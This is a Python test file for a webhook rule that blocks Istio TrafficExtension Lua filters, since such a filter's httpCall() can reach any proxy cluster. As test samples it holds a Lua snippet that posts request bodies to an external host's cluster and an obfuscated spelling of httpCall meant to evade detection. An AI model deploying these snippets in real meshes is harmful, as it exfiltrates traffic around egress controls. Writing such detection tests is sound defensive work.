"""traffic-extension-lua: a tenant's Lua can httpCall() any cluster of the proxy it runs on."""

from __future__ import annotations

from typing import Any

import pytest

from tests.unit.fetch_objects import FETCH_POLICY, PROTO_WASM, traffic_extension
from tests.unit.istio_objects import decide, findings
from webhook.policy.rules.traffic_extension_lua import RULE

#: traffic_extension.proto's Lua examples (istio/api HEAD), verbatim.
PROTO_HEADER_MODIFIER = """\
function envoy_on_request(request_handle)
  local domain = "foo.com"
  local headers = request_handle:headers()
  local host = headers:get(":authority")
  local existing_auth_header = headers:get("Authorization")
  if (domain ~= nil and host ~= nil and existing_auth_header == nil and domain == host) then
    local bearer_token = headers:get("cookie"):match("foo")
    if (bearer_token ~= nil) then
      headers:add("Authorization", "Bearer " .. bearer_token)
    end
  end
end
"""
PROTO_HEADER_LOGGER = """\
function envoy_on_request(request_handle)
  local headers = request_handle:headers()
  local num_headers = 0
  for key, value in pairs(headers) do
    num_headers = num_headers + 1
  end
  request_handle:logInfo("Request to reviews service has " .. num_headers .. " headers")
end
"""
#: What any of them could do instead: a request to an external host's own cluster.
HTTP_CALL = """\
function envoy_on_request(h)
  h:httpCall("outbound|443||api.github.com", {[":method"] = "POST", [":path"] = "/x",
    [":authority"] = "api.github.com"}, h:body():getBytes(0, 4096), 1000)
end
"""

BYPASSES: list[tuple[str, dict[str, Any], str]] = [
    (
        # the proto's gateway example: the ingress gateway's outbound clusters
        "the proto's conditional-header-modifier at the ingress gateway",
        traffic_extension(
            "istio-ingress",
            lua=PROTO_HEADER_MODIFIER,
            match=[{"mode": "CLIENT", "ports": [{"number": 8080}, {"number": 8081}]}],
            phase="AUTHN",
            priority=1000,
        ),
        "the sidecars and gateways of pods labelled istio=ingressgateway",
    ),
    (
        # the proto's waypoint example: the waypoint serving reviews, in any namespace
        "the proto's reviews-header-logger at a Service's waypoint",
        traffic_extension(
            lua=PROTO_HEADER_LOGGER,
            targetRefs=[{"kind": "Service", "name": "reviews"}],
            match=[{"mode": "SERVER"}],
            phase="STATS",
        ),
        "the waypoint serving Service default/reviews",
    ),
    (
        # policyattachment.go: a ServiceEntry of the namespace attaches to its (egress) waypoint
        "at a ServiceEntry's egress waypoint, shared by every namespace",
        traffic_extension(
            lua=HTTP_CALL,
            targetRefs=[{"kind": "ServiceEntry", "group": "networking.istio.io", "name": "gh"}],
        ),
        "the waypoint serving ServiceEntry default/gh (an egress waypoint",
    ),
    (
        "calls a gateway-required host's own cluster from every sidecar of the namespace",
        traffic_extension(lua=HTTP_CALL, selector=None),
        "every sidecar and gateway in namespace 'default'",
    ),
    (
        "at the namespace's Gateway API gateway",
        traffic_extension(
            lua=HTTP_CALL,
            targetRefs=[{"kind": "Gateway", "group": "gateway.networking.k8s.io", "name": "gw"}],
        ),
        "the proxies of Gateway default/gw",
    ),
    (
        "every waypoint of the class (applies only from the root namespace)",
        traffic_extension(
            lua=HTTP_CALL,
            targetRefs=[{"kind": "GatewayClass", "name": "istio-waypoint"}],
        ),
        "every waypoint of GatewayClass 'istio-waypoint'",
    ),
    (
        # httpCall names a cluster, not the listener the filter sits on
        "inbound listeners only (match SERVER): the clusters are the same",
        traffic_extension(
            lua=HTTP_CALL,
            selector={"matchLabels": {"app": "orders"}},
            match=[{"mode": "SERVER", "ports": [{"number": 8080}]}],
        ),
        "pods labelled app=orders in namespace 'default'",
    ),
    (
        "httpCall spelled so no reader finds it",
        traffic_extension(lua='function envoy_on_request(h) h["http" .. "Call"](h) end'),
        "pods labelled istio=ingressgateway",
    ),
    (
        # offline only: the CRD requires exactly one; each present filter is judged
        "Lua beside an allowlisted Wasm module",
        traffic_extension(lua=HTTP_CALL, wasm={"url": PROTO_WASM}),
        "pods labelled istio=ingressgateway",
    ),
]

ORDINARY: list[tuple[str, dict[str, Any]]] = [
    (
        # the proto's WasmConfig example: admitted whole when gcr.io is allowlisted
        "the proto's Wasm example, its registry allowlisted",
        traffic_extension(
            wasm={"url": PROTO_WASM, "imagePullSecret": "gcr-secret", "type": "HTTP"},
            phase="AUTHN",
        ),
    ),
    (
        "the proto's file:// example at a waypoint Service",
        traffic_extension(
            targetRefs=[{"kind": "Service", "name": "reviews"}],
            wasm={"url": "file:///opt/filters/openid.wasm"},
        ),
    ),
    ("neither filter (istiod discards it)", traffic_extension()),
]


@pytest.mark.parametrize(("name", "obj", "where"), BYPASSES, ids=[b[0] for b in BYPASSES])
def test_lua_is_refused_wherever_it_attaches(name: str, obj: dict[str, Any], where: str) -> None:
    [found] = findings(RULE, obj, FETCH_POLICY)
    assert found.field == "spec.lua.inlineCode", name
    assert where in found.message


@pytest.mark.parametrize(("name", "obj"), ORDINARY, ids=[o[0] for o in ORDINARY])
def test_wasm_traffic_extensions_are_admitted(name: str, obj: dict[str, Any]) -> None:
    assert findings(RULE, obj, FETCH_POLICY) == [], name
    assert decide(obj, FETCH_POLICY).allowed, name


def test_the_message_says_why_and_what_to_do() -> None:
    [found] = findings(RULE, traffic_extension(lua=HTTP_CALL), FETCH_POLICY)
    assert "httpCall()" in found.message
    assert "around the egress gateway" in found.message
    assert "Wasm module (spec.wasm)" in found.message
    assert "exempt namespace" in found.message


def test_an_exempt_namespace_may_install_lua() -> None:
    decision = decide(traffic_extension("istio-system", lua=HTTP_CALL), FETCH_POLICY)
    assert decision.exempt
    assert decision.allowed
